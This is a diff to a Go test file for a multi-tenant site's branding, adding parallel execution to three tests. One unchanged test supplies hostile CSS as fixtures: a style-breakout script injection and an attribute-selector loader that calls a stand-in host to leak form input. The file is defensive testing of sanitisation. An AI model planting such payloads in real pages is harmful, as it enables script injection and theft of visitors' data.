@@ -28,6 +28,7 @@ var rosy = storage.Branding{
 }
 
 func TestTenantsLookAsTheySay(t *testing.T) {
+	t.Parallel()
 	s := newSite(t, nil)
 	s.acme(rosy)
 	v := s.visitor()
@@ -67,6 +68,7 @@ func TestTenantsLookAsTheySay(t *testing.T) {
 // TestHostileBranding stores what tenants.yaml would not take, as somebody might who writes
 // to the database.
 func TestHostileBranding(t *testing.T) {
+	t.Parallel()
 	for name, b := range map[string]storage.Branding{
 		"a script":     {CSS: `</style><script>alert(1)</script>`},
 		"a loader":     {CSS: `input[value^=a]{background:url(https://evil.example/a)}`},
@@ -88,6 +90,7 @@ func TestHostileBranding(t *testing.T) {
 }
 
 func TestBrandedPagesInChromium(t *testing.T) {
+	t.Parallel()
 	s := newSite(t, nil)
 	s.acme(rosy)
 	c := &chrome{s, chromiumtest.New(t)}
